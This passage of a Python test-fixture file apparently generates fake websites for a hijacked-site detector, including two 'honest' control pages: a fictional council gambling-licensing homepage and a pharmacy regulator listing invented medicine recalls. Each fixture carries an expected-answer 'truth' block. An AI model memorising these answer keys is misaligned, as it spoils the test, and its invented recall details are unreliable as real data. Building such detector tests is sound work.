    items = "\n".join(f'<li class="lgd-teaser"><h3><a href="/news/{s}">{t}</a></h3><time datetime="{ymd(n)}T12:00:00Z">{uk_date(n)}</time></li>' for t, s, n in news)
    return f"""<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>News | {name}</title></head><body><main><h1>News</h1><ul>{items}</ul>
<nav class="pager"><a href="/news?page=1">Next page</a></nav></main></body></html>"""


def c06_council_gambling_licences() -> dict[str, Any]:
    """Honest: an English district council's homepage with its gambling licensing service."""
    name, host = "Wexham Vale District Council", "www.wexhamvale-demo.gov.uk"
    news = [("Consultation: draft Statement of Gambling Principles 2026 to 2029", "gambling-policy-consultation", 1),
            ("Council tax bills for 2026 to 2027 are on their way", "council-tax-bills-2026", 3),
            ("New garden waste permits now on sale", "garden-waste-permits-2026", 4),
            ("Licensing committee refuses adult gaming centre application on High Street", "licensing-committee-agc-decision", 8),
            ("Spring clean-up: volunteers collect 400 bags of litter", "spring-clean-up-2026", 10),
            ("Local plan examination hearings timetable published", "local-plan-hearings", 13)]
    blocks = f"""<section class="lgd-featured"><h2>Licensing</h2>
<p>The council is the licensing authority for the district under the Licensing Act 2003 and the Gambling Act 2005. We issue premises licences for betting shops,
bingo halls, adult gaming centres and family entertainment centres, register small society lotteries, and grant gaming machine permits for pubs and clubs.
Casino premises licences are not issued in the district: the council passed a "no casino" resolution in 2022.</p>
<ul><li><a href="/licensing/gambling-premises-licence">Apply for a gambling premises licence</a></li><li><a href="/licensing/small-society-lottery">Register a small society lottery</a></li>
<li><a href="/licensing/gaming-machine-permits">Gaming machine permits (pubs and clubs)</a></li><li><a href="/licensing/gambling-public-register">Gambling premises public register</a></li>
<li><a href="/licensing/statement-of-gambling-principles">Statement of Gambling Principles (PDF, 412 KB)</a></li><li><a href="https://www.gamblingcommission.gov.uk/">Gambling Commission</a></li>
<li><a href="https://www.gamcare.org.uk/">Help with problem gambling (GamCare)</a></li></ul>
<p>Consultation closes on {uk_date(-30)}. Responses from betting operators, residents and responsible authorities are welcome.</p></section>"""
    services = [("Bins and recycling", ["Collection days", "Garden waste", "Bulky waste", "Missed bin"]),
                ("Council tax", ["Pay council tax", "Discounts and exemptions", "Moving home", "Council tax bands"]),
                ("Planning", ["Search applications", "Apply for planning permission", "Local plan", "Building control"]),
                ("Licensing", ["Alcohol and entertainment", "Gambling premises licence", "Taxi and private hire", "Street trading", "Lotteries"]),
                ("Housing", ["Apply for housing", "Homelessness", "Private renting", "Disabled facilities grants"]),
                ("Benefits", ["Housing benefit", "Council tax reduction", "Cost of living support"])]
    html = govuk_like(name=name, host=host, tagline="Home", news=news, blocks=blocks, services=services)
    pad = "\n".join(f'<div class="js-view-dom-id-{i:04x}" data-view="{i}"></div>' for i in range(500))
    html = html.replace("</body>", pad + "\n</body>")
    return {
        "host": host, "name": name,
        "pages": {"/": html, "/news": govuk_list(name, news)},
        "article": govuk_list(name, news),
        "extra_hosts": {"www.gamblingcommission.gov.uk": "<html><head><title>Gambling Commission</title></head><body><h1>Gambling Commission</h1></body></html>",
                        "www.gamcare.org.uk": "<html><head><title>GamCare</title></head><body><h1>GamCare</h1></body></html>"},
        "truth": {"kind": "honest", "idea": "gambling premises licences, betting shops, casino resolution, lotteries on a council homepage",
                  "status": "healthy", "passed": True, "must": [], "must_not": list(NOT_HIJACKED),
                  "newest": ymd(1), "columns": [{"name": "Latest news", "type": "news", "newest": ymd(1)}]},
    }


def c05_pharmacy_regulator() -> dict[str, Any]:
    """Honest: a pharmacy and medicines regulator listing recalls of falsified Viagra, Cialis, tramadol."""
    name, host = "Pharmacy and Poisons Board", "www.pharmacyboard-demo.go.ke"
    news = [("Recall of falsified Viagra (sildenafil citrate) 100 mg tablets, batch 2L41B", "recall-falsified-viagra-100mg", 1),
            ("Public alert: counterfeit Cialis (tadalafil) 20 mg sold online", "alert-counterfeit-cialis", 3),
            ("Warning on unregistered slimming products containing sibutramine", "warning-sibutramine-slimming", 5),
            ("Tramadol 225 mg tablets: reclassification to Schedule 1 controlled substance", "tramadol-reclassification", 7),
            ("Board closes 46 illegal online pharmacies selling prescription-only medicines", "illegal-online-pharmacies-closed", 9),
            ("Quarterly pharmacovigilance report Q4 2025", "pharmacovigilance-q4-2025", 20)]
    blocks = """<section class="lgd-featured"><h2>Buying medicines online</h2>
<p>Do not buy Viagra, Cialis, Levitra, tramadol, codeine syrups or slimming pills from websites that offer them "without prescription", "cheap" or "next-day delivery".
Such products are often falsified, contain undeclared ingredients or wrong doses. Only buy from pharmacies licensed by the Board and displaying the verification logo.</p>
<ul><li><a href="/registers/licensed-pharmacies">Check a licensed pharmacy</a></li><li><a href="/safety/report-adverse-reaction">Report an adverse drug reaction</a></li>
<li><a href="/safety/recalls">All product recalls</a></li><li><a href="https://www.who.int/news-room/fact-sheets/detail/substandard-and-falsified-medical-products">WHO: substandard and falsified medical products</a></li></ul></section>
<section class="recalls"><h2>Current recalls</h2><table><thead><tr><th>Product</th><th>Batch</th><th>Reason</th><th>Date</th></tr></thead><tbody>
<tr><td>Viagra (sildenafil) 100 mg film-coated tablets</td><td>2L41B</td><td>Falsified product in circulation</td><td>""" + uk_date(1) + """</td></tr>
<tr><td>Cialis (tadalafil) 20 mg tablets</td><td>K73921</td><td>Counterfeit packaging</td><td>""" + uk_date(3) + """</td></tr>
<tr><td>Amoxicillin 500 mg capsules</td><td>AMX2309</td><td>Failed dissolution test</td><td>""" + uk_date(12) + """</td></tr>
<tr><td>Xanax (alprazolam) 1 mg</td><td>various</td><td>Falsified, contains bromazolam</td><td>""" + uk_date(16) + """</td></tr></tbody></table></section>"""
    services = [("Registers", ["Licensed pharmacies", "Registered products", "Pharmaceutical technologists", "Wholesalers"]),
                ("Licensing", ["Premises licence", "Product registration", "Import permits", "Export permits"]),
                ("Safety", ["Recalls", "Pharmacovigilance", "Report a substandard product", "Poisons"]),
                ("About us", ["Mandate", "Board members", "Careers", "Tenders"])]
    html = govuk_like(name=name, host=host, tagline="Regulating pharmacy practice and medicines", news=news, blocks=blocks, services=services)
    pad = "\n".join(f'<div class="js-view-dom-id-{i:04x}" data-view="{i}"></div>' for i in range(500))
    html = html.replace("</body>", pad + "\n</body>")
    return {
        "host": host, "name": name,
        "pages": {"/": html, "/news": govuk_list(name, news)},
        "article": govuk_list(name, news),
        "extra_hosts": {"www.who.int": "<html><head><title>WHO</title></head><body><h1>Substandard and falsified medical products</h1></body></html>"},
        "truth": {"kind": "honest", "idea": "Viagra/Cialis/tramadol recalls and 'do not buy ... without prescription' warning",
                  "status": "healthy", "passed": True, "must": [], "must_not": list(NOT_HIJACKED),
                  "newest": ymd(1), "columns": [{"name": "Latest news", "type": "news", "newest": ymd(1)}]},
    }


# --------------------------------------------------------------------------- all sites

def sites() -> list[dict[str, Any]]:
    out = [
        h01_title_spam(), h02_packed_referrer(), h03_offscreen(), h04_tw_style_class(), h05_marquee(), h06_school_footer_spam(),
        h07_slot_gacor(), h08_thai_casino(), h09_vn_casino_landing(), h10_whole_redirect(), h11_crypto_airdrop(), h12_defaced(),
        c01_sports_lottery(), c02_anti_gambling(), c03_game_theory(), c04_macau_tourism(), c05_pharmacy_regulator(),
        c06_council_gambling_licences(), c07_id_appointment_slots(), c08_school_offcanvas(),
    ]
    for s in out:
        s.setdefault("extra_hosts", {})
    return out
